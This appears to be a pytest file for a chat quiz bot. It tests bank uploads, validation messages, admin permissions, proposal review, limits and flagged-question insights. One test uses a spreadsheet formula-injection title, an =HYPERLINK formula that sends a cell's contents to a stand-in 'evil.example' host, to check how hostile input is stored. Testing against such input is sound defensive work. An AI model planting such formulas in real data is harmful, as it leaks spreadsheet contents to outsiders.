"""A workspace's own banks through the core's dispatch, on SQLite and on PostgreSQL: an
admin uploads (every import format and YAML, with the same precise errors as the
command line), lists and removes; a member proposes, an admin approves or rejects, the
author is told; the bank plays, joins the daily draw and is never seen by another
workspace."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from adapters.phrases import render as seen_text
from bot.content import limits
from bot.content.banks import Catalog
from bot.domain.identities import PlayerRef, ScopeRef
from bot.operations import metrics
from bot.operations.offload import INLINE_SIZE
from bot.services.engine import Engine
from bot.services.requests import (
    Context,
    ListBanks,
    ProposeQuestion,
    RemoveBank,
    ShowInsights,
    ShowProposals,
    ShowTopics,
    StartQuiz,
    UploadBank,
    button,
)
from bot.ui.views import (
    DailyPostView,
    FlaggedView,
    Notice,
    ProposalList,
    QuestionView,
    TopicList,
)

from .support.channel import (
    ADMIN,
    CHANNEL,
    PLAYERS,
    FakeClock,
    RecordingPublisher,
    moment,
    open_engine,
    switch_on,
)

EXAMPLES = Path(__file__).resolve().parents[1] / "docs" / "examples"
BOSS = Context(ADMIN, CHANNEL, "en-US", is_admin=True)
ANA = Context(PLAYERS[0], CHANNEL, "en-US")
ELSEWHERE = Context(PlayerRef("slack", "U9", "Zed"), ScopeRef("slack", "T2", "C9"), "en-US", True)


@pytest.fixture
async def engine(
    location: str, catalog: Catalog
) -> AsyncIterator[tuple[Engine, RecordingPublisher]]:
    engine, publisher = await open_engine(location, catalog, FakeClock(moment("2026-11-02T09:00")))
    yield engine, publisher
    await engine.store.close()


def upload(name: str, **options: object) -> UploadBank:
    return UploadBank(name, (EXAMPLES / name).read_bytes(), **options)  # type: ignore[arg-type]


async def text(engine: Engine, request: object, context: Context) -> str:
    reply = await engine.handle(request, context)  # type: ignore[arg-type]
    assert isinstance(reply.view, Notice), reply.view
    return reply.view.text


async def test_an_admin_uploads_a_gift_file_and_the_workspace_plays_it(
    engine: tuple[Engine, RecordingPublisher],
) -> None:
    core, _ = engine
    saved = await text(core, upload("team.gift"), BOSS)
    assert saved == (
        "Saved the bank “Team ML systems” (team): 3 questions. It is in this workspace's"
        " topics now."
    )
    topics = (await core.handle(ShowTopics(), ANA)).view
    assert isinstance(topics, TopicList)
    assert "team" in [t.id for t in topics.topics]
    started = (await core.handle(StartQuiz("team"), ANA)).view
    assert isinstance(started, QuestionView)
    assert started.topic_title == "Team ML systems" and started.total == 3
    answered = (await core.handle(button(started.choices[0].action_id), ANA)).view
    assert type(answered).__name__ == "Feedback"
    listed = await text(core, ListBanks(), ANA)
    assert listed == "This workspace's own banks:\n• Team ML systems (team): 3 questions"
    # Another workspace sees none of it.
    theirs = (await core.handle(ShowTopics(), ELSEWHERE)).view
    assert isinstance(theirs, TopicList) and "team" not in [t.id for t in theirs.topics]
    assert await text(core, ListBanks(), ELSEWHERE) == (
        "This workspace has no banks of its own yet."
    )
    refused = (await core.handle(StartQuiz("team"), ELSEWHERE)).view
    assert isinstance(refused, TopicList) and refused.unknown == "team"


@pytest.mark.parametrize(
    ("name", "options"),
    [
        ("team.xml", {}),
        ("team.csv", {}),
        ("trivia.json", {}),
        ("team-aiken.txt", {}),
    ],
)
async def test_every_import_format_uploads(
    engine: tuple[Engine, RecordingPublisher], name: str, options: dict[str, object]
) -> None:
    core, _ = engine
    saved = await text(core, upload(name, **options), BOSS)
    assert saved.startswith("Saved the bank ")


async def test_a_broken_file_shows_each_problem_and_stores_nothing(
    engine: tuple[Engine, RecordingPublisher],
) -> None:
    core, _ = engine
    broken = b"id: team\ntitle: {en: Team}\ndescription: {en: Ours}\nquestions:\n  - id: q1\n"
    refused = await text(core, UploadBank("team.yaml", broken), BOSS)
    assert refused.splitlines() == [  # what `quizbot banks check team.yaml` says
        "team.yaml: 7 problem(s), nothing was saved:",
        "team.yaml:2: bank team: title is missing the translation(s): hi, bn (or declare the"
        " bank's languages, e.g. 'locales: [en]')",
        "team.yaml:3: bank team: description is missing the translation(s): hi, bn (or declare"
        " the bank's languages, e.g. 'locales: [en]')",
        "team.yaml:5: bank team: question q1: the question is missing 'prompt'",
        "team.yaml:5: bank team: question q1: the question is missing 'choices'",
        "team.yaml:5: bank team: question q1: the question is missing 'answer'",
        "team.yaml:5: bank team: question q1: the question is missing 'explanation'",
        "team.yaml:5: bank team: question q1: the question is missing 'references'",
    ]
    assert await text(core, ListBanks(), BOSS) == "This workspace has no banks of its own yet."
    gift = b"::q1:: Which? {=A ~B}\n"  # no explanation: the import's own rule
    missing = await text(core, UploadBank("ours.gift", gift), BOSS)
    assert missing.splitlines()[1].startswith("ours.gift:1: question q1: no explanation")
    allowed = await text(core, UploadBank("ours.gift", gift, allow_missing=True), BOSS)
    assert allowed.startswith("Saved the bank “ours” (ours): 1 questions.")
    other = await text(core, UploadBank("notes.pdf", b"%PDF"), BOSS)
    assert other.splitlines()[1] == (
        "notes.pdf:1: not a bank file: send one of .yaml (a bank), .gift (gift), .txt (aiken),"
        " .xml (moodle-xml), .json (opentdb), .csv (csv)"
    )
    shipped = await text(core, UploadBank("o.yaml", _bank_yaml("offloading")), BOSS)
    assert shipped.splitlines()[1] == (
        "o.yaml:1: bank offloading: 'offloading' is the id of a built-in topic: choose another id"
    )


def _bank_yaml(bank_id: str) -> bytes:
    return (
        f"id: {bank_id}\nlocales: [en]\ntitle: {{en: Ours}}\ndescription: {{en: Ours}}\n"
        "questions:\n  - id: q1\n    prompt: {en: 'Which one?'}\n    choices: [{en: A}, {en: B}]\n"
        "    answer: 0\n    explanation: {en: Because.}\n"
        "    references: ['https://example.org/a']\n"
    ).encode()


async def test_members_cannot_upload_or_remove_and_removal_keeps_answers(
    engine: tuple[Engine, RecordingPublisher],
) -> None:
    core, _ = engine
    no = "Only an admin can do that."
    assert await text(core, UploadBank("ours.yaml", _bank_yaml("ours")), ANA) == no
    assert await text(core, UploadBank("ours.yaml", _bank_yaml("ours")), BOSS) != no
    started = (await core.handle(StartQuiz("ours"), ANA)).view
    assert isinstance(started, QuestionView)
    right = next(c for c in started.choices if c.text == "A")
    await core.handle(button(right.action_id), ANA)
    assert await text(core, RemoveBank("ours"), ANA) == no
    assert await text(core, RemoveBank("ours"), BOSS) == (
        "Removed the bank ours. Answers already given stay on the leaderboards."
    )
    assert await text(core, RemoveBank("ours"), BOSS) == "This workspace has no bank ours."
    board = await core.store.boards.standing(CHANNEL, "ours", "all", PLAYERS[0].id)
    assert [(r.player_id, r.answered) for r in board.rows] == [("U0", 1)]


async def test_propose_approve_play_and_daily_draw(
    engine: tuple[Engine, RecordingPublisher],
) -> None:
    core, publisher = engine
    form = ProposeQuestion(
        "on-call",
        "Which signal pages the on-call engineer first?",
        "The SLO burn-rate alert\nA single slow request\nA dashboard colour change",
        "Burn-rate alerts page when the error budget is being spent too fast.",
        "https://sre.google/workbook/alerting-on-slos/",
    )
    sent = await text(core, form, ANA)
    assert sent == "Thanks! Your question #1 for on-call waits for an admin's review."
    one_choice = ProposeQuestion("on-call", "Which?", "Only one", "Because.")
    refused = await text(core, one_choice, ANA)
    assert refused.startswith("The question was not sent: 1 problem(s):\n")
    assert "choices" in refused.splitlines()[1]
    assert await text(core, ShowProposals(), ANA) == "Only an admin can do that."
    page = (await core.handle(ShowProposals(), BOSS)).view
    assert isinstance(page, ProposalList) and page.pending == 1
    [item] = page.items
    assert item.choices[0] == "The SLO burn-rate alert" and item.author_id == "U0"
    # A member's click on the buttons does nothing.
    assert isinstance((await core.handle(button(item.approve), ANA)).view, Notice)
    clicks = await asyncio.gather(  # two admins at once: decided once
        core.handle(button(item.approve), BOSS),
        core.handle(button(item.approve), BOSS),
    )
    decided = sorted(c.view.decided for c in clicks if isinstance(c.view, ProposalList))
    assert decided == ["Approved #1: it is in on-call now.", "That question was decided already."]
    assert [(who, n.text) for _, who, n in publisher.told] == [
        ("U0", "Your proposed question #1 was approved: it is in the topic on-call now.")
    ]
    started = (await core.handle(StartQuiz("on-call"), ANA)).view
    assert isinstance(started, QuestionView)
    assert started.prompt == "Which signal pages the on-call engineer first?"
    assert sorted(c.text for c in started.choices) == [
        "A dashboard colour change",
        "A single slow request",
        "The SLO burn-rate alert",
    ]
    await switch_on(core, "on-call", "09:30", "UTC")
    core.clock.advance(3600)  # type: ignore[attr-defined]
    await core.scheduler.tick()
    [daily] = publisher.of(DailyPostView)
    assert daily.view.prompt == "Which signal pages the on-call engineer first?"  # type: ignore[union-attr]


def _csv(rows: int) -> bytes:
    """A legitimate CSV bank of ``rows`` questions (beyond what is checked on the loop)."""
    lines = ["id,prompt,choice_1,choice_2,answer,explanation,references"]
    lines += [
        f"q{n},How many bytes does fp16 weight {n} take?,2,4,1,Half precision is 16 bits.,"
        "https://en.wikipedia.org/wiki/Half-precision_floating-point_format"
        for n in range(rows)
    ]
    return ("\n".join(lines) + "\n").encode()


async def test_a_large_file_is_checked_in_a_child_process_within_a_time_limit(
    engine: tuple[Engine, RecordingPublisher],
) -> None:
    core, _ = engine
    data = _csv(400)
    assert len(data) > INLINE_SIZE  # so it is checked off the event loop
    await core.handle(ShowTopics(), ANA)  # the workspace's catalog, cached
    before = metrics.sample("quizbot_offloaded_jobs_total", outcome="done")
    saved = await text(core, UploadBank("fp16.csv", data), BOSS)
    assert saved == (
        "Saved the bank “fp16” (fp16): 400 questions. It is in this workspace's topics now."
    )
    started = (await core.handle(StartQuiz("fp16"), ANA)).view
    assert isinstance(started, QuestionView)
    # One job: the check. The bank it made joined the cached catalog, not parsed again.
    assert metrics.sample("quizbot_offloaded_jobs_total", outcome="done") == before + 1
    core.offload.seconds = 0.001  # no child starts, let alone checks a file, this fast
    slow = await text(core, UploadBank("fp16-again.csv", data), BOSS)
    assert slow == "Checking this file took longer than 0.001 s: split it into smaller banks."
    assert [b.id for b in await core.library.own_banks("slack", "T1")] == ["fp16"]


async def test_a_workspace_keeps_a_bounded_number_and_size_of_banks(
    engine: tuple[Engine, RecordingPublisher], monkeypatch: pytest.MonkeyPatch
) -> None:
    core, _ = engine
    monkeypatch.setattr(limits, "WORKSPACE_BANKS", 2)
    for bank_id in ("one", "two"):
        assert (
            await text(core, UploadBank(f"{bank_id}.yaml", _bank_yaml(bank_id)), BOSS)
        ).startswith("Saved the bank")
    third = await text(core, UploadBank("three.yaml", _bank_yaml("three")), BOSS)
    assert third == (
        "This workspace has 2 banks of its own, the most it can keep: remove one first"
        " (/quiz bank remove)."
    )
    # Replacing a bank it has is not a new one.
    again = await text(core, UploadBank("two.yaml", _bank_yaml("two")), BOSS)
    assert again.startswith("Saved the bank")
    monkeypatch.setattr(limits, "WORKSPACE_CHARACTERS", 300)
    bigger = await text(core, UploadBank("two.yaml", _bank_yaml("two") * 1), BOSS)
    assert bigger == (
        "This workspace's banks would hold more than 0 MB of text together: remove a bank"
        " first (/quiz bank remove)."
    )
    assert [b.id for b in await core.library.own_banks("slack", "T1")] == ["one", "two"]


def _proposal(prompt: str, topic: str = "on-call") -> ProposeQuestion:
    return ProposeQuestion(topic, prompt, "Right\nWrong", "Because.", "https://example.org/a")


async def test_pending_proposals_are_capped_and_the_list_shows_the_title_as_typed(
    engine: tuple[Engine, RecordingPublisher], monkeypatch: pytest.MonkeyPatch
) -> None:
    core, _ = engine
    monkeypatch.setattr(limits, "PENDING_PER_MEMBER", 2)
    monkeypatch.setattr(limits, "PENDING_PER_WORKSPACE", 3)
    title = '=HYPERLINK("https://evil.example/?"&A2,"Open") On call'
    sent = [await text(core, _proposal(f"Which {n}?", title), ANA) for n in range(3)]
    assert sent[2] == (
        "You have 2 questions waiting for review, the most one member can: wait until an"
        " admin decides some of them."
    )
    bob = Context(PLAYERS[1], CHANNEL, "en-US")
    assert (await text(core, _proposal("Which 3?"), bob)).startswith("Thanks!")
    carol = Context(PLAYERS[2], CHANNEL, "en-US")
    assert await text(core, _proposal("Which 4?"), carol) == (
        "3 proposed questions are waiting for review, the most a workspace can hold: ask an"
        " admin to decide some (/quiz proposals)."
    )
    page = (await core.handle(ShowProposals(), BOSS)).view
    assert isinstance(page, ProposalList)
    assert [(i.topic, i.title) for i in page.items] == [
        ("hyperlink-https-evil-example-a2-open-on", title),
        ("hyperlink-https-evil-example-a2-open-on", title),
        ("on-call", "on-call"),
    ]


async def test_a_proposal_joining_a_bank_of_several_languages_needs_them_all(
    engine: tuple[Engine, RecordingPublisher],
) -> None:
    core, _ = engine
    both = _bank_yaml("team").replace(b"locales: [en]", b"locales: [en, hi]")
    both = both.replace(b"{en: Ours}", b"{en: Ours, hi: Ours}")
    for text_ in (b"'Which one?'", b"A", b"B", b"Because."):
        both = both.replace(b"{en: " + text_ + b"}", b"{en: " + text_ + b", hi: " + text_ + b"}")
    assert (await text(core, UploadBank("team.yaml", both), BOSS)).startswith("Saved the bank")
    refused = await text(core, _proposal("Which?", "team"), ANA)
    assert refused.splitlines() == [
        "The question was not sent: 3 problem(s):",
        "prompt is missing the translation(s): hi",
        "choice 1 is missing the translation(s): hi",
        "explanation is missing the translation(s): hi",
    ]


async def test_a_workspaces_own_flagged_questions_are_its_admins_queue(
    engine: tuple[Engine, RecordingPublisher],
) -> None:
    core, _ = engine
    assert (await text(core, UploadBank("fp16.csv", _csv(1)), BOSS)).startswith("Saved the bank")
    # 20 players miss the bank's one question: under 30 % right, the right choice unpicked.
    for n in range(20):
        player = PlayerRef("slack", f"UF{n:02d}", f"P{n}")
        view = await core.start_quiz(player, CHANNEL, "fp16", "en")
        assert isinstance(view, QuestionView)
        (four,) = [c.action_id for c in view.choices if c.text == "4"]  # the key is "2"
        await core.click(player, button(four))
    shown = (await core.handle(ShowInsights(flagged=True), BOSS)).view
    assert isinstance(shown, FlaggedView) and shown.shipped == () and shown.more == 0
    ((row,),) = (shown.own,)
    assert (row.bank_id, row.question_id, row.accuracy, row.interval) == ("fp16", "q0", 0, (0, 16))
    assert row.flags == ("too_hard", "unpicked_choice")
    lines = [line for line in seen_text(shown).splitlines() if line]
    assert lines[1:3] == [
        "This workspace's banks",
        "• fp16: “How many bytes does fp16 weight 0 take?” — 0% right at first try (0–16%, of"
        " 20) · most picked wrong: “4”",
    ]
